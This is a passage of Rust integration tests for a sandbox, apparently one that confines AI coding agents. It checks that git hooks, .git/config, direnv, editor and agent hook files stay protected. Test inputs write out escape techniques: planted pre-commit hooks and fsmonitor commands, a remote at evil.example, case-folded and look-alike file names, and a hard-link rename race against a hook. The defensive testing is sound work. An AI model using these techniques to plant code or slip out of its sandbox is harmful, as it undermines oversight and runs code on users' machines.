        "all: hello\nhello: hello.c\n\tcc -o hello hello.c\ncheck: all\n\t./hello > out.txt\n",
    );
    w.write(
        "hello.c",
        "#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n",
    );
    w.write(
        "s.sh",
        "set -e\nmake -s check\ngit add hello.c Makefile\ngit -c user.name=t -c user.email=t@t commit -q -m c\ngit log --oneline | wc -l\n",
    );
    git_init(w);
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("out.txt")).unwrap(),
        "hi\n"
    );
    assert!(w.worktree.join(".git/HEAD").exists());
}

/// What the user's git does in `dir` after the session (run outside; its result does not
/// matter, only what a planted fsmonitor would leave).
fn users_git_status(dir: &Path) {
    let _ = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--porcelain"])
        .current_dir(dir)
        .output();
}

/// Makes `dir`, a repository on branch `work` with one commit of a file `f`.
fn repo_with_a_commit(dir: &Path) {
    std::fs::create_dir(dir).unwrap();
    git(dir, &["init", "-q", "-b", "work"]);
    std::fs::write(dir.join("f"), "f\n").unwrap();
    git(dir, &["add", "f"]);
    git(dir, &["commit", "-q", "-m", "f"]);
}

fn git_init(w: &World) {
    let out = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "init", "-q", "-b", "work"])
        .current_dir(&w.worktree)
        .output()
        .unwrap();
    assert!(out.status.success());
    chown_tree(w, &w.worktree);
}

/// `git init` in a worktree that is no repository yet makes one as it does bare (its hooks
/// folder with the sample hooks, its first config, its probes of modes and symlinks),
/// without a question; the new repository's hooks and config are then protected as any
/// repository's: a hook, a sample renamed to a hook's name and a line added to the config
/// are refused, checked from outside.
fn git_init_makes_a_repository_whose_hooks_and_config_stay_protected(w: &World) {
    w.write("a.txt", "a\n");
    w.write(
        "init.sh",
        "umask 000; git init -q -b work && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm one && echo made\n",
    );
    let out = w.run(&["/bin/sh", "init.sh"]);
    assert!(stdout(&out).contains("made"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("fence: blocked"), "{}", stderr(&out));
    let config = std::fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    // Made under `umask 0`, yet no other account may write it.
    let mode = std::fs::metadata(w.worktree.join(".git/config"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o022, 0, "{mode:o}");
    let keys: Vec<String> = git(&w.worktree, &["config", "--list", "--local"])
        .lines()
        .map(str::to_string)
        .collect();
    assert!(
        keys.iter().any(|k| k == "core.filemode=true")
            && keys.iter().any(|k| k == "core.bare=false"),
        "{keys:?}"
    );
    assert!(
        !keys.iter().any(|k| k.starts_with("core.symlinks")),
        "{keys:?}"
    );
    assert!(w.worktree.join(".git/hooks/pre-commit.sample").is_file());
    assert_eq!(git(&w.worktree, &["log", "--format=%s"]).trim(), "one");
    w.write(
        "evil.sh",
        "echo 'touch /tmp/p' > .git/hooks/pre-commit\n\
         mv .git/hooks/pre-commit.sample .git/hooks/pre-push\n\
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config\n\
         git config core.hooksPath /tmp\n\
         git config core.repositoryformatversion 1; git config extensions.objectformat sha256\n\
         git config core.logallrefupdates false\n",
    );
    let out = w.run(&["/bin/sh", "evil.sh"]);
    assert!(
        !w.worktree.join(".git/hooks/pre-commit").exists(),
        "{}",
        stderr(&out)
    );
    assert!(
        !w.worktree.join(".git/hooks/pre-push").exists(),
        "{}",
        stderr(&out)
    );
    assert!(w.worktree.join(".git/hooks/pre-commit.sample").is_file());
    assert_unchanged(&w.worktree.join(".git/config"), &config);
}

/// `git stash` keeps the changes, then cleans the tree with a `git reset --hard` child of
/// its own: that reset runs (the stash is whole, the tree clean, `git stash pop` brings the
/// change back), while a `git reset --hard` the sandbox runs itself is still refused, as
/// is one run by a program of the sandbox's named `git` and started as `git stash`.
fn git_stash_cleans_the_tree_while_a_reset_hard_stays_refused(w: &World) {
    git_init(w);
    w.write("a.txt", "committed\n");
    support::git(&w.worktree, &["add", "a.txt"]);
    support::git(&w.worktree, &["commit", "-q", "-m", "a"]);
    chown_tree(w, &w.worktree);
    w.write("a.txt", "changed\n");
    let fenced = |words: &[&str]| {
        w.fence(&words.iter().map(OsStr::new).collect::<Vec<_>>())
            .output()
            .unwrap()
    };
    // git with `before` in front of it (`env VAR=…`) under `--approver deny`.
    let git_after = |before: &[&str], args: &[&str]| {
        let git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"];
        fenced(&[&["--approver", "deny", "--"][..], before, &git, args].concat())
    };
    let git = |args: &[&str]| git_after(&[], args);
    let out = git(&["stash"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("a.txt")).unwrap(),
        "committed\n",
        "the tree was not cleaned: {}",
        stderr(&out)
    );
    assert_eq!(
        support::git(&w.worktree, &["stash", "list"])
            .lines()
            .count(),
        1
    );
    let out = git(&["stash", "pop"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("a.txt")).unwrap(),
        "changed\n"
    );
    // With the untracked files (`-u`): kept in the stash and cleaned away, then brought
    // back; `git clean -f` of the sandbox's own stays refused.
    w.write("new.txt", "untracked\n");
    let out = git(&["stash", "-u"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!w.worktree.join("new.txt").exists(), "{}", stderr(&out));
    let out = git(&["stash", "pop"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("new.txt")).unwrap(),
        "untracked\n"
    );
    // The sandbox's own clean, and a stash started with a variable that loads other code
    // into git (not taken at its word: its clean is refused).
    for out in [
        git(&["clean", "--force", "--quiet", "-d", ":/"]),
        git_after(&["env", "LD_LIBRARY_PATH=/nonexistent"], &["stash", "-u"]),
    ] {
        assert!(w.worktree.join("new.txt").exists(), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("(rule git.clean-force)"),
            "{}",
            stderr(&out)
        );
    }
    // The sandbox's own reset, direct or from a program named git run as `git stash`.
    w.compile_c(
        "git",
        r#"#include <unistd.h>
int main(void) {
    execlp("git", "git", "reset", "--hard", "-q", "--no-recurse-submodules", (char *)0);
    return 127;
}
"#,
    );
    for args in [
        &["--", "git", "reset", "--hard"][..],
        &["--", "./git", "stash"],
    ] {
        let out = fenced(&[&["--approver", "deny"][..], args].concat());
        assert_eq!(
            std::fs::read_to_string(w.worktree.join("a.txt")).unwrap(),
            "changed\n",
            "{args:?} discarded the change: {}",
            stderr(&out)
        );
        assert!(
            stderr(&out).contains("(rule git.reset-hard)"),
            "{}",
            stderr(&out)
        );
    }
}

/// git rewrites `.git/config` (its `config.lock` renamed over it) for a branch's
/// bookkeeping: `git branch -m`, `git branch -u`, `git config user.email`. Such a rewrite is
/// written by fence from the text it checked; one that adds anything else (a remote, a
/// program) is still refused. A program that renames a checked lock file and then writes
/// through the descriptor it kept gets nothing into the config.
fn git_keeps_branch_bookkeeping_in_its_config_and_nothing_else(w: &World) {
    git_init(w);
    w.write("a.txt", "a\n");
    support::git(&w.worktree, &["add", "a.txt"]);
    support::git(&w.worktree, &["commit", "-q", "-m", "a"]);
    support::git(
        &w.worktree,
        &["remote", "add", "origin", "https://example.com/r.git"],
    );
    support::git(
        &w.worktree,
        &["update-ref", "refs/remotes/origin/trunk", "HEAD"],
    );
    chown_tree(w, &w.worktree);
    let config = w.worktree.join(".git/config");
    let run = |args: &[&str]| {
        let mut all = vec!["--approver", "deny", "--", "git"];
        all.extend_from_slice(args);
        w.fence(&all.iter().map(OsStr::new).collect::<Vec<_>>())
            .output()
            .unwrap()
    };
    for args in [
        &["branch", "-m", "work", "trunk"][..],
        &["branch", "-u", "origin/trunk"],
        &["config", "user.email", "agent@example.com"],
    ] {
        let out = run(args);
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    }
    let get = |key: &str| support::git(&w.worktree, &["config", "--local", "--get", key]);
    assert_eq!(get("branch.trunk.merge"), "refs/heads/trunk");
    assert_eq!(get("branch.trunk.remote"), "origin");
    assert_eq!(get("user.email"), "agent@example.com");
    assert!(!w.worktree.join(".git/config.lock").exists());
    let before = std::fs::read_to_string(&config).unwrap();
    let out = run(&["remote", "add", "evil", "https://evil.example/r.git"]);
    assert!(
        stderr(&out).contains("(rule fence.protected-path)"),
        "{}",
        stderr(&out)
    );
    assert_unchanged(&config, &before);
    w.compile_c(
        "late_write",
        r#"#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    static char text[65536];
    int c = open(".git/config", O_RDONLY);
    ssize_t n = read(c, text, sizeof text - 1);
    close(c);
    int fd = open(".git/config.lock", O_CREAT | O_EXCL | O_WRONLY, 0644);
    write(fd, text, n);
    const char *name = "[user]\n\tname = Agent\n";
    write(fd, name, strlen(name));
    printf("rename %d\n", rename(".git/config.lock", ".git/config"));
    const char *evil = "[core]\n\tfsmonitor = touch pwned\n";
    printf("late %zd\n", write(fd, evil, strlen(evil)));
    return 0;
}
"#,
    );
    let out = w
        .fence(&[
            "--approver".as_ref(),
            "deny".as_ref(),
            "--".as_ref(),
            "./late_write".as_ref(),
        ])
        .output()
        .unwrap();
    let text = std::fs::read_to_string(&config).unwrap();
    assert!(
        stdout(&out).contains("rename 0"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(text.contains("name = Agent"), "{text}");
    assert!(
        !text.contains("fsmonitor"),
        "the late write reached the config: {text}"
    );
    // A change git reads otherwise than a parser might: blanks before a continuation are
    // kept, so `hooksPath = .githooks \` then `;` names `.githooks ` (a folder no rule
    // protects). Asked (refused here), and the setting stays as it was.
    support::git(&w.worktree, &["config", "core.hooksPath", ".githooks"]);
    chown_tree(w, &w.worktree);
    w.write(
        "blanks.py",
        concat!(
            "import os\n",
            "text = open('.git/config').read()\n",
            "text = text.replace('hooksPath = .githooks', 'hooksPath = .githooks \\\\\\n;')\n",
            "open('.git/config.lock', 'w').write(text)\n",
            "try:\n",
            "    os.rename('.git/config.lock', '.git/config')\n",
            "    print('renamed')\n",
            "except OSError as e:\n",
            "    print('refused', e.errno)\n",
        ),
    );
    let out = w.run(&[PYTHON, "blanks.py"]);
    assert_eq!(stdout(&out), "refused 13\n", "{}", stderr(&out));
    assert_eq!(
        support::git(&w.worktree, &["config", "--local", "core.hooksPath"]),
        ".githooks"
    );
}

fn protected_paths_stay_read_only_while_git_commit_works(w: &World) {
    git_init(w);
    let config = std::fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    w.write(
        "s.sh",
        "echo evil > .git/hooks/pre-commit\necho '[alias]' >> .git/config\necho 'eval evil' > .envrc\nmv .git .git-old\nchmod 777 .git/config\necho hi > a.txt\ngit add a.txt\ngit -c user.name=t -c user.email=t@t commit -q -m a\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(
        !w.worktree.join(".git/hooks/pre-commit").exists(),
        "hook written"
    );
    assert_unchanged(&w.worktree.join(".git/config"), &config);
    assert!(!w.worktree.join(".envrc").exists());
    assert!(!w.worktree.join(".git-old").exists());
    assert!(
        stderr(&out).contains("rule fence.protected-path"),
        "{}",
        stderr(&out)
    );
    let log = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "log", "--oneline"])
        .current_dir(&w.worktree)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&log.stdout).lines().count(),
        1,
        "git commit did not work: {}",
        stderr(&out)
    );
}

/// A `.git` file is the worktree's content: one naming a folder outside (`gitdir: HOME`,
/// in a repository unpacked from anywhere) opens nothing there; only a linked worktree's
/// shared git directory, as git makes it, is writable.
fn a_git_file_naming_a_folder_outside_opens_nothing(w: &World) {
    let target = w.outside.join("named");
    std::fs::create_dir_all(target.join("worktrees")).unwrap();
    chown_tree(w, &w.outside);
    std::fs::write(
        w.worktree.join(".git"),
        format!("gitdir: {}\n", target.display()),
    )
    .unwrap();
    chown_tree(w, &w.worktree);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "echo x > {t}/planted; mkdir {t}/worktrees/made; echo end",
            t = target.display()
        ),
    ]);
    assert!(stdout(&out).contains("end"), "{}", stderr(&out));
    assert!(!target.join("planted").exists(), "{}", stderr(&out));
    assert!(!target.join("worktrees/made").exists(), "{}", stderr(&out));
}

/// The way Claude Code's Bash tool runs each command (`bash -c -l "source SNAPSHOT &&
/// eval 'CMD' …"`), and a package script's `$npm_execpath run x`, run under the fence: the
/// programs they name are judged at their own execs.
fn a_shell_strings_eval_and_source_run_under_the_fence(w: &World) {
    w.write_outside(
        "snapshot.sh",
        "made_by_snapshot() { touch from-snapshot; }\n",
    );
    let snapshot = w.outside.join("snapshot.sh");
    let out = w.run(&[
        "/bin/bash",
        "-c",
        "-l",
        &format!(
            "source {} && eval 'made_by_snapshot; touch from-eval' < /dev/null && X=touch; $X from-variable",
            snapshot.display()
        ),
    ]);
    for name in ["from-snapshot", "from-eval", "from-variable"] {
        assert!(w.worktree.join(name).exists(), "{name}: {}", stderr(&out));
    }
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// The configuration of the hook managers that git's hooks run (pre-commit, lefthook) and
/// Claude Code's project hook scripts run code on the user's next `git commit` or agent
/// session: existing ones stay as they were and new ones are not made, while the rest of
/// the worktree is written.
fn hook_managers_configs_and_agent_hook_scripts_are_protected(w: &World) {
    git_init(w);
    w.write(".pre-commit-config.yaml", "repos: []\n");
    std::fs::create_dir_all(w.worktree.join(".claude/hooks")).unwrap();
    w.write(".claude/hooks/fmt.sh", "#!/bin/sh\nexit 0\n");
    std::fs::create_dir_all(w.worktree.join(".devcontainer")).unwrap();
    w.write(".devcontainer/devcontainer.json", "{}\n");
    w.write("mise.ci.toml", "[tools]\n");
    w.write(".lefthook.yaml", "pre-commit: {}\n");
    w.mkdir(".cursor");
    w.write(".cursor/hooks.json", "{}\n");
    w.mkdir(".kiro/settings");
    w.mkdir(".config");
    chown_tree(w, &w.worktree);
    w.write(
        "s.sh",
        "printf 'repos:\\n- repo: local\\n  hooks:\\n  - id: x\\n    entry: touch /tmp/p\\n' > .pre-commit-config.yaml\n\
         echo 'pre-commit: {commands: {x: {run: touch /tmp/p}}}' > lefthook.yml\n\
         echo '{\"initializeCommand\": \"touch /tmp/p\"}' > .devcontainer/devcontainer.json\n\
         printf '[hooks]\\nenter = \"touch /tmp/p\"\\n' > mise.toml\n\
         echo '[hooks]' > .config/mise.toml\n\
         mkdir -p .config/mise; echo '[hooks]' > .config/mise/config.toml\n\
         echo ok > .config/other.toml\n\
         echo '[hooks]' >> mise.ci.toml; echo '[hooks]' > .mise.dev.toml\n\
         mkdir -p mise; echo '[hooks]' > mise/config.toml; echo '[hooks]' > mise/config.local.toml\n\
         echo 'pre-commit: {jobs: [{run: touch /tmp/p}]}' >> .lefthook.yaml\n\
         echo 'pre-commit: {jobs: [{run: touch /tmp/p}]}' > .lefthook-local.yml\n\
         echo 'pre-commit: {jobs: [{run: touch /tmp/p}]}' > .config/lefthook.yml\n\
         mkdir -p .lefthook/pre-commit; echo 'touch /tmp/p' > .lefthook/pre-commit/x.sh\n\
         echo '{\"version\":1,\"hooks\":{\"stop\":[{\"command\":\"touch /tmp/p\"}]}}' > .cursor/hooks.json\n\
         echo '{}' > .cursor/mcp.json; mkdir -p .cursor/rules; echo ok > .cursor/rules/style.mdc\n\
         echo '{}' > .kiro/settings/mcp.json; echo '{}' > opencode.json\n\
         echo 'lint-cmd: touch /tmp/p' > .aider.conf.yml; mkdir -p .zed; echo '{}' > .zed/settings.json\n\
         echo 'touch /tmp/p' >> .claude/hooks/fmt.sh\n\
         echo 'touch /tmp/p' > .claude/hooks/new.sh\n\
         mkdir -p .claude/agents; printf -- '---\\nhooks: x\\n---\\n' > .claude/agents/a.md\n\
         mkdir -p .claude/skills/s; echo 'touch /tmp/p' > .claude/skills/s/run.sh\n\
         mkdir -p .gemini/commands; echo 'prompt = \"!{touch /tmp/p}\"' > .gemini/commands/c.toml\n\
         mkdir -p .claude/todos; echo ok > .claude/todos/t.json\n\
         mkdir -p .git/remotes .git/branches; echo 'URL: /elsewhere' > .git/remotes/origin\n\
         echo /elsewhere > .git/branches/origin\n\
         echo ok > notes.txt\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&w.worktree.join(".pre-commit-config.yaml"), "repos: []\n");
    assert_unchanged(
        &w.worktree.join(".claude/hooks/fmt.sh"),
        "#!/bin/sh\nexit 0\n",
    );
    assert!(
        !w.worktree.join("lefthook.yml").exists(),
        "{}",
        stderr(&out)
    );
    assert!(!w.worktree.join(".claude/hooks/new.sh").exists());
    assert_unchanged(&w.worktree.join(".devcontainer/devcontainer.json"), "{}\n");
    assert_unchanged(&w.worktree.join("mise.ci.toml"), "[tools]\n");
    assert_unchanged(&w.worktree.join(".lefthook.yaml"), "pre-commit: {}\n");
    assert_unchanged(&w.worktree.join(".cursor/hooks.json"), "{}\n");
    // Other agents' rules are the agent's to write.
    assert_unchanged(&w.worktree.join(".cursor/rules/style.mdc"), "ok\n");
    for made in [
        // Other agents' and editors' settings that run programs.
        ".cursor/mcp.json",
        ".kiro/settings/mcp.json",
        "opencode.json",
        ".aider.conf.yml",
        ".zed",
        // Every name lefthook reads a config from, its `-local` one, its script folder.
        ".lefthook-local.yml",
        ".config/lefthook.yml",
        ".lefthook",
        "mise/config.local.toml",
        "mise.toml",
        ".config/mise.toml",
        ".config/mise/config.toml",
        ".mise.dev.toml",
        "mise/config.toml",
        // Agents' subagents, skills and custom commands, which run programs.
        ".claude/agents/a.md",
        ".claude/skills/s/run.sh",
        ".gemini/commands/c.toml",
        // git's older remote definitions: a push to `origin` would go to /elsewhere.
        ".git/remotes/origin",
        ".git/branches/origin",
    ] {
        assert!(!w.worktree.join(made).exists(), "{made}: {}", stderr(&out));
    }
    assert_unchanged(&w.worktree.join(".config/other.toml"), "ok\n");
    assert_unchanged(&w.worktree.join(".claude/todos/t.json"), "ok\n");
    assert_unchanged(&w.worktree.join("notes.txt"), "ok\n");
    assert!(
        stderr(&out).contains("rule fence.protected-path"),
        "{}",
        stderr(&out)
    );
}

/// Protected names hold in any case and in the spellings a file system that folds case
/// takes for them (`.ENVRC` is direnv's `.envrc` on such a file system, `.claude/ſettings.json`
/// with a long s is `settings.json` in the kernel's casefold tables), and the hooks of
/// GitHub Copilot, Windsurf and Qwen Code and the agents' skills folders are protected; a
/// CI workflow and a file named `head` are written as any other.
fn protected_names_hold_in_any_case_and_for_more_agents(w: &World) {
    git_init(w);
    w.write(
        "s.sh",
        "mkdir .VSCode; echo '{}' > .VSCode/settings.json\n\
         echo 'export X=1' > .ENVRC; echo 'export X=1' > .Envrc\n\
         mkdir -p sub; mkdir sub/.GIT; echo evil > sub/.GIT/config\n\
         mkdir -p .git/HOOKS; echo evil > .git/HOOKS/pre-commit; echo evil > .git/CONFIG\n\
         mkdir -p .claude; echo '{}' > \".claude/$(printf '\\305\\277')ettings.json\"\n\
         echo '{}' > \".mcp$(printf '\\342\\200\\215').json\"\n\
         mkdir -p .github/hooks; echo '{}' > .github/hooks/h.json\n\
         mkdir -p .agents/skills/s; echo 'touch /tmp/p' > .agents/skills/s/run.sh\n\
         mkdir -p .windsurf .qwen; echo '{}' > .windsurf/hooks.json; echo '{}' > .qwen/settings.json\n\
         mkdir -p .github/workflows; echo ok > .github/workflows/ci.yml; echo ok > head\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    for made in [
        ".VSCode",
        ".ENVRC",
        ".Envrc",
        "sub/.GIT",
        ".git/HOOKS/pre-commit",
        ".git/CONFIG",
        ".claude/\u{17f}ettings.json",
        ".mcp\u{200d}.json",
        ".github/hooks/h.json",
        ".agents/skills/s",
        ".windsurf/hooks.json",
        ".qwen/settings.json",
    ] {
        assert!(
            std::fs::symlink_metadata(w.worktree.join(made)).is_err(),
            "{made}: {}",
            stderr(&out)
        );
    }
    assert_unchanged(&w.worktree.join(".github/workflows/ci.yml"), "ok\n");
    assert_unchanged(&w.worktree.join("head"), "ok\n");
    assert!(
        stderr(&out).contains("rule fence.protected-path"),
        "{}",
        stderr(&out)
    );
}

/// A case-insensitive file system mounted for a test: `tests/support/casefold_fs.py`
/// (FUSE) over a backing folder, which shows from outside what was really made.
struct CaseFolding {
    dir: std::path::PathBuf,
    backing: std::path::PathBuf,
    daemon: std::process::Child,
}

impl CaseFolding {
    /// `None` when FUSE or the script's Python module (fusepy) is missing.
    fn mount(at: &Path) -> Option<CaseFolding> {
        let fuse = std::fs::read_to_string("/proc/filesystems")
            .is_ok_and(|f| f.split_whitespace().any(|t| t == "fuse"));
        let fusepy = std::process::Command::new("/usr/bin/python3")
            .args(["-c", "import fusepy"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !fuse || !fusepy || !Path::new("/dev/fuse").exists() {
            return None;
        }
        let (dir, backing) = (at.join("mnt"), at.join("backing"));
        std::fs::create_dir_all(&dir).ok()?;
        std::fs::create_dir_all(&backing).ok()?;
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/support/casefold_fs.py");
        let mut daemon = std::process::Command::new("/usr/bin/python3")
            .arg(script)
            .arg(&backing)
            .arg(&dir)
            .stdin(Stdio::null())
            .spawn()
            .ok()?;
        let deadline = Instant::now() + Duration::from_secs(20);
        let mounted = || {
            std::fs::read_to_string("/proc/self/mountinfo").is_ok_and(|m| {
                m.lines()
                    .any(|l| l.split(' ').nth(4) == Some(&*dir.to_string_lossy()))
            })
        };
        while !mounted() {
            if Instant::now() > deadline || daemon.try_wait().ok().flatten().is_some() {
                let _ = daemon.kill();
                let _ = daemon.wait();
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        Some(CaseFolding {
            dir,
            backing,
            daemon,
        })
    }
}

impl Drop for CaseFolding {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.dir)
            .status();
        let _ = self.daemon.kill();
        let _ = self.daemon.wait();
    }
}

/// On a file system that folds case (a macOS folder shared into a virtual machine, vfat,
/// ext4 with casefold), `.GIT/CONFIG` is `.git/config` and `.ENVRC` is the `.envrc` direnv
/// opens: none of the protected paths is reached in another case, in a session with
/// namespaces or without, judged from the backing folder outside.
#[test]
fn on_a_file_system_that_folds_case_no_protected_path_is_reached_in_another_case() {
    let test = "on_a_file_system_that_folds_case_no_protected_path_is_reached_in_another_case";
    let Some(w) = World::new(test, support::Who::Root) else {
        return;
    };
    let Some(fs) = CaseFolding::mount(&w.outside.join("casefold")) else {
        support::skip(
            test,
            "no FUSE or no fusepy for tests/support/casefold_fs.py (Debian: fuse3, python3-fusepy)",
        );
        return;
    };
    let script = w.outside.join("attack.sh");
    std::fs::write(
        &script,
        "echo 'touch /tmp/p' > .GIT/hooks/pre-commit\n\
         printf '[core]\\n\\tfsmonitor = touch /tmp/p\\n' >> .GIT/CONFIG\n\
         echo 'export X=1' > .ENVRC\n\
         mkdir .VSCode; echo '{}' > .VSCode/settings.json\n\
         ln -s /tmp .GIT/logs/Refs2\n\
         mkdir -p sub; mkdir sub/.GIT; echo '[core]' > sub/.GIT/config\n\
         mkdir -p b/objects b/refs; echo '[core]' > b/config; echo 'ref: refs/heads/main' > b/head\n\
         mkdir -p c/objects; echo 'ref: refs/heads/main' > c/Head; mkdir c/refs\n\
         echo ok > notes.txt\n",
    )
    .unwrap();
    for (i, without_namespaces) in [false, true].into_iter().enumerate() {
        if without_namespaces && support::effective_landlock_abi() < 6 {
            support::skip(
                test,
                "without namespaces: Landlock ABI below 6, fence run refuses",
            );
            continue;
        }
        // Made in one case, used in another.
        std::fs::create_dir(fs.dir.join(format!("Wt{i}"))).unwrap();
        let wt = fs.dir.join(format!("wt{i}"));
        git(&wt, &["init", "-q", "-b", "main"]);
        let back = fs.backing.join(format!("Wt{i}"));
        let config = std::fs::read_to_string(back.join(".git/config")).unwrap();
        let mut cmd = w.fence(&[
            "--worktree".as_ref(),
            wt.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            script.as_os_str(),
        ]);
        cmd.current_dir(&wt);
        if without_namespaces {
            cmd.env("FENCE_NO_NAMESPACES", "1");
        }
        let out = cmd.output().unwrap();
        for made in [
            ".git/hooks/pre-commit",
            ".ENVRC",
            ".VSCode",
            ".git/logs/Refs2",
            "sub/.GIT",
            // The last of a bare repository's three entries, `HEAD` in another case last or
            // not: the folder would be a git directory whose config the user's git takes.
            "b/head",
            "c/refs",
        ] {
            assert!(
                std::fs::symlink_metadata(back.join(made)).is_err(),
                "{made} (namespaces: {}): {}",
                !without_namespaces,
                stderr(&out)
            );
        }
        assert_unchanged(&back.join(".git/config"), &config);
        assert_unchanged(&back.join("notes.txt"), "ok\n");
    }
}

/// A rebase the session leaves stopped with `exec` steps queued would run them outside
/// any sandbox at the user's `git rebase --continue`: fence names them when the session
/// ends, and says nothing of a rebase without them.
fn a_rebase_left_stopped_with_commands_queued_is_told(w: &World) {
    git_init(w);
    for message in ["one", "two"] {
        git(
            &w.worktree,
            &["commit", "-q", "--allow-empty", "-m", message],
        );
    }
    chown_tree(w, &w.worktree);
    w.write(
        "rebase.sh",
        "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git -c user.email=a@b.invalid -c user.name=a rebase -i --exec 'echo hi > ran' HEAD~1\n",
    );
    let out = w.run(&["/bin/sh", "rebase.sh"]);
    let told = "the session left a rebase stopped with commands queued that `git rebase --continue` runs outside any sandbox: `echo hi > ran`";
    assert!(stderr(&out).contains(told), "{}", stderr(&out));
    assert!(w.worktree.join(".git/rebase-merge").is_dir());
    // Aborted, and stopped again without an `exec`: nothing to tell.
    git(&w.worktree, &["rebase", "--abort"]);
    chown_tree(w, &w.worktree);
    w.write(
        "rebase.sh",
        "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git -c user.email=a@b.invalid -c user.name=a rebase -i HEAD~1\n",
    );
    let out = w.run(&["/bin/sh", "rebase.sh"]);
    assert!(w.worktree.join(".git/rebase-merge").is_dir());
    assert!(!stderr(&out).contains("rebase stopped"), "{}", stderr(&out));
}

/// A git hook with another name in the worktree (a hard link made before the session,
/// `ln tools/hook.sh .git/hooks/pre-commit`): the other name is protected as the hook is,
/// and the folders above it held, so neither a write by that name nor a thread exchanging
/// its folder with another while a third writes there changes the hook, judged from outside.
fn a_protected_file_with_another_name_is_protected_by_both(w: &World) {
    git_init(w);
    let hook_text = "#!/bin/sh\nexit 0\n";
    w.mkdir("d/A");
    w.mkdir("d/B");
    w.write("d/B/f", hook_text);
    w.write("d/A/f", "plain\n");
    std::fs::create_dir_all(w.worktree.join(".git/hooks")).unwrap();
    std::fs::hard_link(
        w.worktree.join("d/B/f"),
        w.worktree.join(".git/hooks/pre-commit"),
    )
    .unwrap();
    chown_tree(w, &w.worktree);
    // Two threads exchange d/A and d/B while a third appends to d/A/f, writing only when
    // the file it opened is the hook's.
    let race = w.compile_c(
        "race",
        r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
static volatile int stop;
static void *exchange(void *unused) {
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "d/A", AT_FDCWD, "d/B", 2 /* RENAME_EXCHANGE */);
    return unused;
}
int main(void) {
    struct stat hook, st;
    if (stat(".git/hooks/pre-commit", &hook) != 0) return 2;
    int fd;
    pthread_t t[2];
    for (int i = 0; i < 2; i++) pthread_create(&t[i], 0, exchange, 0);
    long tries = 0, won = 0;
    time_t end = time(0) + 3;
    while (time(0) < end) {
        tries++;
        fd = open("d/A/f", O_WRONLY | O_APPEND);
        if (fd < 0) continue;
        if (fstat(fd, &st) == 0 && st.st_ino == hook.st_ino && st.st_dev == hook.st_dev) {
            (void)write(fd, "echo RACED\n", 11);
            won++;
        }
        close(fd);
    }
    stop = 1;
    for (int i = 0; i < 2; i++) pthread_join(t[i], 0);
    // And by the other name, plainly.
    fd = open("d/B/f", O_WRONLY | O_APPEND);
    if (fd < 0) fd = open("d/A/f", O_WRONLY | O_APPEND);
    if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == hook.st_ino) (void)write(fd, "echo RACED\n", 11);
    printf("tries %ld won %ld\ndone\n", tries, won);
    return 0;
}
"#,
    );
    let out = w.run(&[race.to_str().unwrap()]);
    assert!(
        stdout(&out).contains("done"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert_unchanged(&w.worktree.join(".git/hooks/pre-commit"), hook_text);
    assert!(
        stderr(&out).contains("is another name (a hard link) of a protected file"),
        "{}",
        stderr(&out)
    );
}

/// A process whose descriptor 2 never drains (a socket whose peer never reads, with room
/// for a few bytes; a terminal of its own that nothing reads) makes a call refused with a
/// long reason line: the line is dropped rather than waited for, and the other processes'
/// notified calls go on. Before, the notification loop waited on that write for good.
fn a_stderr_that_never_drains_holds_up_no_notified_call(w: &World) {
    let stuck = w.compile_c(
        "stuck",
        r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <pty.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static char path[4000];
static void refused(void) {
    strcpy(path, "/etc/");
    while (strlen(path) < 3800)
        strcat(path, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/");
    strcat(path, "x");
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}
int main(void) {
